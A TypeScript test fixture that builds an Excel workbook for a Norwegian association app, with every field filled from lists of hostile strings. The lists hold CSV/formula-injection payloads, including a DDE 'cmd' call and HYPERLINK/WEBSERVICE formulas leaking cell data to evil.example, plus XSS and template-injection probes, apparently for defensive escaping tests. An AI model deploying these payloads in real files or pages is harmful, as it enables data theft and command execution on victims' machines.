import ExcelJS from "exceljs";
import { quoteSheet } from "../../../src/workbook/address";

/** What someone could write in any cell: formulas, ways around a guard against formulas, HTML, and ways out of it. */
export const HOSTILE = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example/?leak="&B2,"Klikk")',
  '=WEBSERVICE("https://evil.example/")',
  "+1+cmd|'/c calc'!A1",
  "-2+3",
  "@SUM(1,2)",
  "'=1+1",
  `<img src=x onerror="document.documentElement.dataset.hit=1">`,
  `"><script>document.documentElement.dataset.hit=1</script>`,
  `' autofocus onfocus='document.documentElement.dataset.hit=1`,
  "<b>fet</b>&amp;<a href=https://evil.example>lenke</a>",
  "javascript:document.documentElement.dataset.hit=1",
  "${7*7}{{7*7}}{count, plural, other {#}}",
] as const;

/** Names that a sheet can have in Excel and that are trouble in a formula or on a page. */
export const HOSTILE_SHEETS = [
  "O'Brien 2025",
  "=cmd|' calc'!A1",
  `<img src=x onerror=alert(1)>`,
  `"><script>`,
] as const;

const at = (index: number): string => HOSTILE[index % HOSTILE.length] ?? "";

/**
 * A workbook in which every text that can be hostile is: names, numbers, kinds, headings, titles, sources, board names, the
 * log, and sheets. Its bylaws stand in a sheet of another name, which the set-up sheet leads to.
 */
export async function hostileWorkbook(bylawsSheet: string): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook();
  book.title = at(7);
  book.creator = at(8);
  const write = (name: string, rows: readonly (readonly unknown[])[]): void => {
    book.addWorksheet(name).addRows(rows.map((row) => [...row]));
  };
  write("Medlemmer", [
    ["Nr", "Navn", "Type", "Folketall", "Stemmer", "Region", at(7), at(0)],
    ...HOSTILE.map((text, row) => [
      null,
      text,
      "kommune",
      1000 * (row + 1),
      row === 0 ? 5 : 1,
      at(row + 1),
      text,
      text,
    ]),
    [at(2), `Ukjent ${at(7)}`, at(8), at(7), at(0), at(9)],
  ]);
  const of = (cell: string): object => ({ formula: `${quoteSheet(bylawsSheet)}!${cell}`, result: "Regel" });
  write(bylawsSheet, [
    ["Regel", "Gjelder", "Verdi", "Kilde", "Merknad", at(7)],
    ["fees.model", null, "per innbygger", at(7), at(8)],
    ["fees.rate", null, 3, at(8), at(0)],
    ["fees.unit", null, 1, at(0), at(7)],
    ["meeting.quorum", at(7), "1/2", at(8), null],
    ["meeting.quorum", null, at(7), at(7), null],
    ["board.office", null, at(8), at(10), null],
    ["board.leader", null, "ja", at(7), null],
    [at(7), at(8), at(0), at(9), null],
  ]);
  write("Saker", [
    ["Sak", "Tittel", "Slag", "Forslag", "Regel", "For", "Mot", "Blank", "Resultat", "Vedtak", "Avstemning"],
    ...HOSTILE.map((text, row) => [text, at(row + 1), at(row + 2), at(row + 3), null, 6, 6, 0, text, text, null]),
    ["Hemmelig", at(7), null, at(8), null, 9, 3, 1, null, null, "hemmelig"],
    [`R ${at(7)}`, at(8), null, null, at(7), 1, 0, 0, null, null, at(8)],
  ]);
  write("Stemmer", [["Medlem", `R ${at(7)}`, at(8)], ...HOSTILE.map((text) => [text, at(7), null])]);
  write("Styre", [
    ["Organ", "Verv", "Navn", "Medlem", "Stilling", "Kjønn", "Valgt fra", "Valgt til"],
    [at(7), "leder", at(7), at(8), at(0), at(8), at(7), at(0)],
    [at(8), "medlem", at(9), at(0), at(7), "K", null, null],
    [at(0), at(7), at(8), at(7), at(8), "M", null, null],
  ]);
  write("Logg", [
    ["Tid", "Hva", "Sak", "Medlem", "Før", "Etter", "Hvorfor"],
    [46_000, at(7), at(0), at(8), at(9), at(10), at(11)],
    [46_000, "Møteleders stemme", at(8), null, null, at(7), at(0)],
  ]);
  write("Oppsett", [
    ["Del", "Felt", "Overskrift"],
    ["Vedtekter", "Regel", of("$A$1")],
    ["Vedtekter", "Gjelder", of("$B$1")],
    ["Vedtekter", "Verdi", of("$C$1")],
    ["Vedtekter", "Kilde", of("$D$1")],
    [at(7), at(8), at(7)],
    ["Styre", at(7), at(8)],
  ]);
  for (const name of HOSTILE_SHEETS) if (name !== bylawsSheet) write(name, [[at(0)], [at(7)]]);
  return new Uint8Array(await book.xlsx.writeBuffer());
}
